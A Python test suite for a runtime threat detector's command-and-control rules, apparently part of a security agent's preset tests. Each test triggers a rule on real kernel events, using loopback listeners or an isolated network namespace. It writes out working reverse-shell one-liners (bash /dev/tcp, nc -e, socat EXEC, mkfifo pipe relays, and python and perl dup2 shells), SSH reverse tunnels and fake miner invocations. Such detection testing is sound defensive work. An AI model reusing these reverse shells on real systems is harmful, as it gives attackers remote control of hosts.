"""test_preset_command_and_control.py - the command-and-control pack
(presets/command-and-control.yaml) on real kernel events.

Every rule is triggered for real: reverse shells over real loopback socket pairs (the test
listens, the shell connects, the test tells it to exit), real socat, ssh, curl, python and
perl, and copies of vg_exec / vg_helper named like netcat, a miner or a tunnel tool. Each
trigger has a near miss after which the rule must have said nothing about that process.

Rules about connections to non-local addresses need an address that is neither loopback nor
off the machine: those cases run inside a private network namespace (`unshare -n`) whose
loopback interface also carries 198.51.100.7 (TEST-NET-2). The namespace has no other
interface, so nothing can leave the machine, and it disappears with its processes.
"""
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import uuid

sys.path.insert(0, os.path.dirname(__file__))
from harness import Agent, Scratch, SCRATCH_ROOT, case, eq, require_root, results  # noqa: E402
from test_preset_execution import (PY, VG_EXEC, assert_quiet, fields, named, run, run_on_pty,  # noqa: E402
                                   token, wait_for)

NS_ADDR = "198.51.100.7"

# runs inside the namespace: address on lo, listeners, then the commands one by one
NETNS_RUNNER = r'''
import json, socket, subprocess, sys, threading
spec = json.load(open(sys.argv[1]))
subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
subprocess.run(["ip", "addr", "add", spec["addr"] + "/32", "dev", "lo"], check=True)
listeners = []
for host, port in spec["listen"]:
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, port))
    s.listen(16)
    listeners.append(s)

def serve(s):
    while True:
        try:
            c, _ = s.accept()
        except OSError:
            return
        try:
            c.sendall(spec["reply"].encode())
        except OSError:
            pass
        c.close()

for s in listeners:
    threading.Thread(target=serve, args=(s,), daemon=True).start()
codes = []
for cmd in spec["commands"]:
    p = subprocess.run(cmd["argv"], input=cmd.get("stdin", "").encode(), stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, timeout=20)
    codes.append(p.returncode)
for s in listeners:
    s.shutdown(socket.SHUT_RDWR)
    s.close()
print(json.dumps(codes))
'''


def in_netns(s, listen, commands, reply="exit\n"):
    """run commands ({"argv": [...], "stdin": "..."}) in a private network namespace where
    `listen` [(host, port)...] accept connections, answer `reply` and close; their exit codes"""
    runner = os.path.join(s.dir, "netns_runner.py")
    spec = os.path.join(s.dir, "netns_spec.json")
    with open(runner, "w") as f:
        f.write(NETNS_RUNNER)
    with open(spec, "w") as f:
        json.dump({"addr": NS_ADDR, "listen": listen, "commands": commands, "reply": reply}, f)
    p = run(["unshare", "--net", PY, runner, spec], timeout=60)
    if p.returncode != 0:
        raise AssertionError("network namespace run failed (%d): %s" % (p.returncode, p.stderr[-500:]))
    return json.loads(p.stdout)


class Listener:
    """a TCP (or unix) listener on loopback that answers each connection with `reply` and closes it"""

    def __init__(self, reply="exit\n", unix_path=None):
        if unix_path:
            self.sock = socket.socket(socket.AF_UNIX)
            self.sock.bind(unix_path)
            self.port = 0
        else:
            self.sock = socket.socket()
            self.sock.bind(("127.0.0.1", 0))
            self.port = self.sock.getsockname()[1]
        self.sock.listen(16)
        self.reply = reply.encode()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(c,), daemon=True).start()

    def _answer(self, c):
        try:
            c.sendall(self.reply)
            c.shutdown(socket.SHUT_WR)
            c.settimeout(5)
            while c.recv(4096):  # until the shell on the other end is gone
                pass
        except OSError:
            pass
        c.close()

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        self.thread.join(5)


@case("preset-command-and-control-socket-on-standard-streams")
def t_socket_stdio(agent):
    rule = "Network Socket Redirected to Standard Stream"
    s = Scratch()
    lst = Listener()
    ulst = Listener(unix_path=os.path.join(s.dir, "u.sock"))
    try:
        for call in ("dup2", "dup", "dup3"):
            t = token()
            eq(run([VG_EXEC, "redirect", "127.0.0.1", str(lst.port), call, "/bin/sh", "-s", t]).returncode, 0,
               "reverse shell's status")
            f = fields(wait_for(agent, rule, t))
            eq(f["evt.type"], call, "syscall")
            eq(f["fd.rport"], lst.port, "fd.rport")
            eq(f["fd.rip"], "127.0.0.1", "fd.rip")
            agent.sync()
            got = sorted(fields(a)["fd.num"] for a in agent.alerts(rule) if t in fields(a)["proc.cmdline"])
            eq(got, [0], "alerts for the fds the socket was put on (0, 1, 2) with " + call)
        # bash's /dev/tcp redirection is the same thing, done by the shell itself
        t = token()
        run(["bash", "-c", "T=%s; bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % (t, lst.port)],
            start_new_session=True, stdin=subprocess.DEVNULL)
        f = fields(agent.wait_alert(rule, lambda a: fields(a)["proc.name"] == "bash" and
                                    fields(a)["fd.rport"] == lst.port))
        # near miss: a port check writes to the socket through stdout, nothing reads from it
        t = token()
        run(["bash", "-c", "T=%s; echo ping > /dev/tcp/127.0.0.1/%d" % (t, lst.port)], stdin=subprocess.DEVNULL)
        assert_quiet(agent, rule, t)
        # near miss: a unix socket on the standard streams
        t = token()
        eq(run([VG_EXEC, "redirect", ulst.sock.getsockname(), "0", "dup2", "/bin/sh", "-c", "true", t]).returncode,
           0, "unix socket run's status")
        assert_quiet(agent, rule, t)
    finally:
        lst.close()
        ulst.close()
        s.cleanup()


@case("preset-command-and-control-dev-tcp-reverse-shell")
def t_dev_tcp(agent):
    rule = "Reverse Shell Through /dev/tcp"
    lst = Listener()
    try:
        t1 = token()
        run(["bash", "-c", "T=%s; bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % (t1, lst.port)],
            start_new_session=True, stdin=subprocess.DEVNULL)
        eq(fields(wait_for(agent, rule, t1))["proc.name"], "bash", "proc.name")
        t2 = token()
        run(["bash", "-c", "T=%s; exec 5<>/dev/tcp/127.0.0.1/%d; sh <&5 >&5 2>&5" % (t2, lst.port)],
            start_new_session=True, stdin=subprocess.DEVNULL)
        eq(fields(wait_for(agent, rule, t2))["proc.name"], "bash", "proc.name")
        # near miss: a port check that only writes to /dev/tcp
        t3 = token()
        run(["bash", "-c", "T=%s; echo > /dev/tcp/127.0.0.1/%d" % (t3, lst.port)])
        assert_quiet(agent, rule, t3)
    finally:
        lst.close()


@case("preset-command-and-control-shell-network-connection")
def t_shell_connect(agent):
    rule = "Shell Opened Network Connection"
    s = Scratch()
    lst = Listener()
    try:
        check = os.path.join(s.dir, token() + ".sh")
        with open(check, "w") as f:
            f.write("#!/bin/bash\nexec 3<>/dev/tcp/$1/$2\nexec 3>&-\n")
        os.chmod(check, 0o755)
        # a reverse shell typed into a shell: its command line shows nothing, the connect does
        t1, t2 = token(), token()
        in_netns(s, [[NS_ADDR, 4444]], [
            {"argv": ["bash", "-s", t1], "stdin": "exec 3<>/dev/tcp/%s/4444; exec 3>&-\n" % NS_ADDR},
            # a script connecting out
            {"argv": [check, NS_ADDR, "4444"]},
            # near miss: a port check whose command line shows a plain /dev/tcp write
            {"argv": ["bash", "-c", "T=%s; echo > /dev/tcp/%s/4444" % (t2, NS_ADDR)]},
        ])
        f = fields(wait_for(agent, rule, t1))
        eq(f["fd.rip"], NS_ADDR, "fd.rip")
        eq(f["fd.rport"], 4444, "fd.rport")
        eq(f["proc.name"], "bash", "proc.name")
        f = fields(wait_for(agent, rule, check))
        eq(f["proc.name"], os.path.basename(check)[:15], "proc.name")
        eq(f["fd.rip"], NS_ADDR, "fd.rip")
        assert_quiet(agent, rule, t2)
        # a typed reverse shell to a local port counts too; a script checking a local port does not
        t3 = token()
        run(["bash", "-s", t3], input="exec 3<>/dev/tcp/127.0.0.1/%d; exec 3>&-\n" % lst.port, check=True)
        eq(fields(wait_for(agent, rule, t3))["fd.rport"], lst.port, "fd.rport")
        run([check, "127.0.0.1", str(lst.port)], check=True)
        agent.sync()
        got = [fields(a)["fd.rip"] for a in agent.alerts(rule) if check in fields(a)["proc.cmdline"]]
        eq(got, [NS_ADDR], "alerted connections of the script")
    finally:
        lst.close()
        s.cleanup()


@case("preset-command-and-control-netcat-exec")
def t_netcat_exec(agent):
    rule = "Netcat Executing a Program"
    s = Scratch()
    lst = Listener()
    try:
        nc = named(s, "nc.traditional")
        eq(run([nc, "-e", "/bin/sh", "127.0.0.1", str(lst.port)]).returncode, 0, "nc -e status")
        f = fields(wait_for(agent, rule, nc, "proc.exepath"))
        eq(f["proc.name"], "nc.traditional", "proc.name")
        eq(f["proc.cmdline"], "nc.traditional -e /bin/sh 127.0.0.1 %d" % lst.port, "proc.cmdline")
        ncat = named(s, "ncat")
        eq(run([ncat, "--sh-exec", "exit 0", "127.0.0.1", str(lst.port)]).returncode, 0, "ncat --sh-exec status")
        eq(fields(wait_for(agent, rule, ncat, "proc.exepath"))["proc.name"], "ncat", "proc.name")
        # near miss: the system's netcat checking a port
        other = Listener()
        try:
            run(["nc", "-z", "-w", "2", "127.0.0.1", str(other.port)], check=True)
            assert_quiet(agent, rule, "127.0.0.1 %d" % other.port, "proc.cmdline")
        finally:
            other.close()
    finally:
        lst.close()
        s.cleanup()


@case("preset-command-and-control-socat-exec")
def t_socat_exec(agent):
    rule = "Socat Executing a Program Over Network"
    lst = Listener()
    try:
        t1 = token()
        eq(run(["socat", "TCP:127.0.0.1:%d" % lst.port, "EXEC:/bin/sh -s %s,stderr" % t1]).returncode, 0,
           "socat status")
        eq(fields(wait_for(agent, rule, t1))["proc.name"], "socat", "proc.name")
        t2 = token()
        run(["socat", "system:true %s" % t2, "tcp4:127.0.0.1:%d" % lst.port])  # may lose the race to write "exit"
        eq(fields(wait_for(agent, rule, t2))["proc.name"], "socat", "proc.name")
        # near misses: a program without the network; the network without a program
        t3 = token()
        run(["socat", "-", "EXEC:/bin/true %s" % t3], check=True, input="")
        assert_quiet(agent, rule, t3)
        t4 = token()
        run(["socat", "-lp" + t4, "-u", "TCP:127.0.0.1:%d" % lst.port, "OPEN:/dev/null"], check=True)
        assert_quiet(agent, rule, t4)
    finally:
        lst.close()


@case("preset-command-and-control-pipe-relay-shell")
def t_pipe_relay(agent):
    rule = "Reverse Shell Through Pipes"
    s = Scratch()
    lst = Listener()
    try:
        fifo = os.path.join(s.dir, "f")
        t1 = token()
        run(["sh", "-c", "T=%s; rm -f %s; mkfifo %s; cat %s | /bin/sh -i 2>&1 | timeout 10 nc -w 2 127.0.0.1 %d > %s; "
             "rm -f %s" % (t1, fifo, fifo, fifo, lst.port, fifo, fifo)], start_new_session=True,
            stdin=subprocess.DEVNULL)
        eq(fields(wait_for(agent, rule, t1))["proc.name"], "sh", "proc.name")
        t2 = token()
        run(["sh", "-c", "T=%s; timeout 10 nc -w 2 127.0.0.1 %d | /bin/sh | timeout 10 nc -w 2 127.0.0.1 %d"
             % (t2, lst.port, lst.port)], stdin=subprocess.DEVNULL)
        eq(fields(wait_for(agent, rule, t2))["proc.name"], "sh", "proc.name")
        # the pipe made with mknod, the command glued to it with ";"
        t4 = token()
        run(["sh", "-c", "T=%s; rm -f %s; mknod %s p;cat %s | /bin/sh -i 2>&1 | timeout 10 nc -w 2 127.0.0.1 %d > %s; "
             "rm -f %s" % (t4, fifo, fifo, fifo, lst.port, fifo, fifo)], start_new_session=True,
            stdin=subprocess.DEVNULL)
        wait_for(agent, rule, t4)
        # near miss: a named pipe and netcat, but no shell in the pipeline
        t3 = token()
        run(["sh", "-c", "T=%s; rm -f %s; mkfifo %s; nc -z -w 2 127.0.0.1 %d; rm -f %s"
             % (t3, fifo, fifo, lst.port, fifo)], check=True)
        assert_quiet(agent, rule, t3)
    finally:
        lst.close()
        s.cleanup()


@case("preset-command-and-control-interpreter-reverse-shell")
def t_interpreter_reverse_shell(agent):
    rule = "Interpreter Reverse Shell One-Liner"
    lst = Listener()
    try:
        t1 = token()
        run([PY, "-c", "import socket,os,subprocess;s=socket.create_connection(('127.0.0.1',%d));"
             "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-s'])  # %s" % (lst.port, t1)],
            check=True)
        eq(fields(wait_for(agent, rule, t1))["proc.name"], "python3", "proc.name")
        t2 = token()
        run(["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
             "if(connect(S,sockaddr_in(%d,inet_aton('127.0.0.1')))){open(STDIN,'>&S');open(STDOUT,'>&S');"
             "open(STDERR,'>&S');exec('/bin/sh -s');}; # %s" % (lst.port, t2)], check=True)
        eq(fields(wait_for(agent, rule, t2))["proc.name"], "perl", "proc.name")
        # near miss: a socket that connects but gives nothing a shell
        t3 = token()
        run([PY, "-c", "import socket; socket.create_connection(('127.0.0.1', %d)).close()  # %s" % (lst.port, t3)],
            check=True)
        assert_quiet(agent, rule, t3)
    finally:
        lst.close()


@case("preset-command-and-control-ssh-tunnel-without-terminal")
def t_ssh_tunnel(agent):
    rule = "SSH Tunnel Started Without Terminal"
    # port 1 on loopback refuses at once: the start of the tunnel is the point
    ssh = ["ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
           "-o", "ConnectTimeout=3", "-F", "/dev/null", "-p", "1"]
    t1 = token()
    run(ssh + ["-R", "9999:localhost:22", "127.0.0.1", "true", t1], start_new_session=True, stdin=subprocess.DEVNULL)
    f = fields(wait_for(agent, rule, t1))
    eq(f["proc.name"], "ssh", "proc.name")
    eq(f["proc.tty"], 0, "proc.tty")
    t2 = token()
    run(ssh + ["-fND", "1080", "127.0.0.1", t2], start_new_session=True, stdin=subprocess.DEVNULL)
    wait_for(agent, rule, t2)
    # near misses: no forwarding (and a remote command that has -R); a forward from a shell on a terminal
    t3 = token()
    run(ssh + ["127.0.0.1", "ls", "-R", t3], start_new_session=True, stdin=subprocess.DEVNULL)
    assert_quiet(agent, rule, t3)
    t4 = token()
    run_on_pty(["bash", "-c", " ".join(ssh + ["-L", "5432:localhost:5432", "127.0.0.1", "true", t4]) + "; true"])
    assert_quiet(agent, rule, t4)


@case("preset-command-and-control-ssh-non-standard-port")
def t_ssh_port(agent):
    rule = "SSH Connection to Non-Standard Port"
    s = Scratch()
    try:
        ssh = ["ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
               "-o", "ConnectTimeout=3", "-F", "/dev/null"]
        t1, t2 = token(), token()
        t3 = token()
        in_netns(s, [[NS_ADDR, 2222], [NS_ADDR, 22], ["127.0.0.1", 2222]], [
            {"argv": ssh + ["-p", "2222", NS_ADDR, "true", t1]},
            {"argv": ssh + ["-p", "2222", "127.0.0.1", "true", t3]},  # through a local tunnel end
            {"argv": ssh + ["-p", "22", NS_ADDR, "true", t2]},  # near miss: the standard port
        ], reply="")
        f = fields(wait_for(agent, rule, t1))
        eq(f["fd.rport"], 2222, "fd.rport")
        eq(f["fd.rip"], NS_ADDR, "fd.rip")
        eq(fields(wait_for(agent, rule, t3))["fd.rip"], "127.0.0.1", "fd.rip")
        assert_quiet(agent, rule, t2)
    finally:
        s.cleanup()


@case("preset-command-and-control-tunnelling-tool")
def t_tunnel_tool(agent):
    rule = "DNS or ICMP Tunnelling Tool Executed"
    s = Scratch()
    try:
        iodine = named(s, "iodine", src=s.helper)
        run([iodine, "exit", "0"], check=True)
        eq(fields(wait_for(agent, rule, iodine, "proc.exepath"))["proc.name"], "iodine", "proc.name")
        script = os.path.join(s.dir, "dnscat2.py")
        with open(script, "w") as f:
            f.write("pass\n")
        run([PY, script, "--dns", "domain=example.test"], check=True)
        eq(fields(wait_for(agent, rule, script))["proc.name"], "python3", "proc.name")
        # near miss: a file that only starts with the tool's name
        notes = os.path.join(s.dir, "dnscat2-notes.py")
        shutil.copy(script, notes)
        run([PY, notes], check=True)
        assert_quiet(agent, rule, notes)
    finally:
        s.cleanup()


@case("preset-command-and-control-proxy-or-tunnel-tool")
def t_proxy_tool(agent):
    rule = "Anonymising Proxy or Tunnel Tool Used"
    s = Scratch()
    try:
        pc = named(s, "proxychains4", src=s.helper)
        run([pc, "exit", "0"], check=True)
        eq(fields(wait_for(agent, rule, pc, "proc.exepath"))["proc.name"], "proxychains4", "proc.name")
        # curl refuses to resolve .onion names (RFC 7686): nothing is looked up
        t1 = token()
        run(["curl", "-s", "--max-time", "2", "http://expyuzz4wqqyqhjn.onion/" + t1])
        eq(fields(wait_for(agent, rule, t1))["proc.name"], "curl", "proc.name")
        # programs other than tor using Tor's SOCKS port (a listener stands in for tor)
        t2, t3 = token(), token()
        in_netns(s, [["127.0.0.1", 9050], ["127.0.0.1", 9051]], [
            {"argv": [s.helper, "connect", "127.0.0.1", "9050"]},
            {"argv": ["curl", "-s", "--max-time", "2", "--socks5-hostname", "127.0.0.1:9050", "http://x.test/" + t2]},
            {"argv": ["curl", "-s", "--max-time", "2", "--socks5-hostname", "127.0.0.1:9051", "http://x.test/" + t3]},
        ], reply="")
        f = fields(wait_for(agent, rule, t2))
        eq(f["fd.name"].endswith("127.0.0.1:9050"), True, "connection to 9050 (%s)" % f["fd.name"])
        wait_for(agent, rule, s.helper, "proc.exepath")
        # near misses: another port on loopback; a program named like no such tool
        assert_quiet(agent, rule, t3)
        other = named(s, "vgt-" + uuid.uuid4().hex[:8], src=s.helper)
        run([other, "exit", "0"], check=True)
        assert_quiet(agent, rule, other, "proc.exepath")
    finally:
        s.cleanup()


@case("preset-command-and-control-crypto-miner")
def t_miner(agent):
    rule = "Crypto Miner Started"
    s = Scratch()
    lst = Listener(reply="")
    try:
        xmrig = named(s, "xmrig", src=s.helper)
        run([xmrig, "connect", "127.0.0.1", str(lst.port)], check=True)
        eq(fields(wait_for(agent, rule, xmrig, "proc.exepath"))["proc.name"], "xmrig", "proc.name")
        # a versioned build of xmrig, and an unknown pool given a Monero wallet
        versioned = named(s, "xmrig-6.21", src=s.helper)
        run([versioned, "exit", "0"])
        wait_for(agent, rule, versioned, "proc.exepath")
        wallet = "48" + "A1b2C3d4E5f6G7h8" * 5 + "JkLmNpQrStUvW"
        if len(wallet) != 95:
            raise AssertionError("wallet length %d" % len(wallet))
        anon = named(s, "vgt-" + uuid.uuid4().hex[:8], src=s.helper)
        run([anon, "-o", "10.0.0.1:443", "-u", wallet, "-k"])
        wait_for(agent, rule, anon, "proc.exepath")
        # a renamed miner, known by its pool URL (the helper rejects the options; the start is the point)
        renamed = named(s, "vgt-" + uuid.uuid4().hex[:8], src=s.helper)
        run([renamed, "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet", "-p", "x"])
        eq(fields(wait_for(agent, rule, renamed, "proc.exepath"))["proc.cmdline"],
           "%s -o stratum+tcp://127.0.0.1:3333 -u wallet -p x" % os.path.basename(renamed), "proc.cmdline")
        # near miss: a program pointed at an ordinary host and port
        plain = named(s, "vgt-" + uuid.uuid4().hex[:8], src=s.helper)
        run([plain, "-o", "pool.example.com:3333"])
        assert_quiet(agent, rule, plain, "proc.exepath")
    finally:
        lst.close()
        s.cleanup()


@case("preset-command-and-control-mining-pool-port")
def t_pool_port(agent):
    rule = "Connection to Mining Pool Port"
    s = Scratch()
    try:
        prog = named(s, "vgt-" + uuid.uuid4().hex[:8], src=s.helper)
        proxy = named(s, "nginx", src=s.helper)
        in_netns(s, [[NS_ADDR, 3333], [NS_ADDR, 3334], ["127.0.0.1", 3333]], [
            {"argv": [prog, "connect", NS_ADDR, "3333"]},
            {"argv": [prog, "connect", "127.0.0.1", "3333"]},  # a local stratum proxy
            {"argv": [prog, "connect", NS_ADDR, "3334"]},      # near miss: another port
            {"argv": [proxy, "connect", "127.0.0.1", "3333"]},  # near miss: a web server to its backend
        ], reply="")
        f = fields(wait_for(agent, rule, prog, "proc.exepath"))
        eq(f["fd.rport"], 3333, "fd.rport")
        agent.sync()
        got = sorted((fields(a)["fd.rip"], fields(a)["fd.rport"]) for a in agent.alerts(rule)
                     if fields(a)["proc.exepath"] in (prog, proxy))
        eq(got, [("127.0.0.1", 3333), (NS_ADDR, 3333)], "connections alerted")
    finally:
        s.cleanup()


@case("preset-command-and-control-interpreter-outbound")
def t_interpreter_outbound(agent):
    rule = "Outbound Connection From Interpreter"
    s = Scratch()
    try:
        t1, t2 = token(), token()
        code = "import socket; socket.create_connection(('%s', 8080), 3).close()  # %s"
        in_netns(s, [[NS_ADDR, 8080], ["127.0.0.1", 8080]], [
            {"argv": [PY, "-c", code % (NS_ADDR, t1)]},
            {"argv": [PY, "-c", code % ("127.0.0.1", t2)]},  # near miss: loopback
        ], reply="")
        f = fields(wait_for(agent, rule, t1))
        eq(f["proc.name"], "python3", "proc.name")
        eq(f["fd.rport"], 8080, "fd.rport")
        assert_quiet(agent, rule, t2)
    finally:
        s.cleanup()


@case("preset-command-and-control-raw-socket")
def t_raw_socket(agent):
    rule = "Raw or ICMP Socket Opened by Unexpected Program"
    s = Scratch()
    try:
        prog = named(s, "vgt-" + uuid.uuid4().hex[:8])
        run([prog, "socket", "raw-icmp"], check=True)
        f = fields(wait_for(agent, rule, prog, "proc.exepath"))
        if "SOCK_RAW" not in f["evt.arg.type"]:
            raise AssertionError("socket type %r" % f["evt.arg.type"])
        eq(f["evt.arg.proto"], "1", "protocol")
        run([prog, "socket", "raw-tcp"], check=True)
        agent.wait_alert(rule, lambda a: fields(a)["proc.exepath"] == prog and fields(a)["evt.arg.proto"] == "6")
        # near misses: an ordinary socket from the same program; the same raw socket from ping
        other = named(s, "vgt-" + uuid.uuid4().hex[:8])
        run([other, "socket", "udp"], check=True)
        ping = named(s, "ping", sub="p")
        run([ping, "socket", "raw-icmp"], check=True)
        assert_quiet(agent, rule, other, "proc.exepath")
        assert_quiet(agent, rule, ping, "proc.exepath")
    finally:
        s.cleanup()


TESTS = (t_socket_stdio, t_dev_tcp, t_shell_connect, t_netcat_exec, t_socat_exec, t_pipe_relay,
         t_interpreter_reverse_shell, t_ssh_tunnel, t_ssh_port, t_tunnel_tool, t_proxy_tool, t_miner, t_pool_port,
         t_interpreter_outbound, t_raw_socket)


def main():
    require_root()
    os.makedirs(SCRATCH_ROOT, exist_ok=True)
    agent = Agent("--json", "--preset", "all", marker=True)
    try:
        for t in TESTS:
            t(agent)
    finally:
        agent.stop()
    return 0 if results["fail"] == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
